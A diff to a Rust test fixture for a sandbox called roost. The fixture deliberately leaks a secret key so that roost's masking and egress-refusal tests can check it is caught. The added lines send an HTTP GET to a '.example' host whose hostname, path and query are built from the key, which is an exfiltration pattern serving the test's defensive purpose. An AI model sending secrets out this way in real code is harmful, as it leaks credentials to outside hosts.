@@ -2,7 +2,9 @@
 //! separately flushed halves on stderr, in an outbox message and in its
 //! error. roost must mask every one of them (the masking tests use it).
 //! With `{"succeed": true}` it ends well instead of failing, so its outbox
-//! message is kept (a failed run's messages are not).
+//! message is kept (a failed run's messages are not). With
+//! `{"egress": true}` it also sends a request to a host built from the key,
+//! which roost refuses, and which must not put the key in roost's logs.
 
 use std::io::Write;
 
@@ -23,6 +25,11 @@ fn leak(invocation: &Invocation) -> roost_sdk::Result {
     stderr.write_all(b"\n")?;
     stderr.flush()?;
     outbox.send_message(&SendMessage::text(&format!("psst: {key}")))?;
+    if invocation.payload["egress"] == true {
+        let host = key.to_ascii_lowercase().replace(|c: char| !c.is_ascii_alphanumeric(), "-");
+        let denied = roost_sdk::http::get(&format!("http://{host}.example/{key}?k={key}"));
+        eprintln!("egress: {}", denied.is_err());
+    }
     if invocation.payload["succeed"] == true {
         return Ok(());
     }
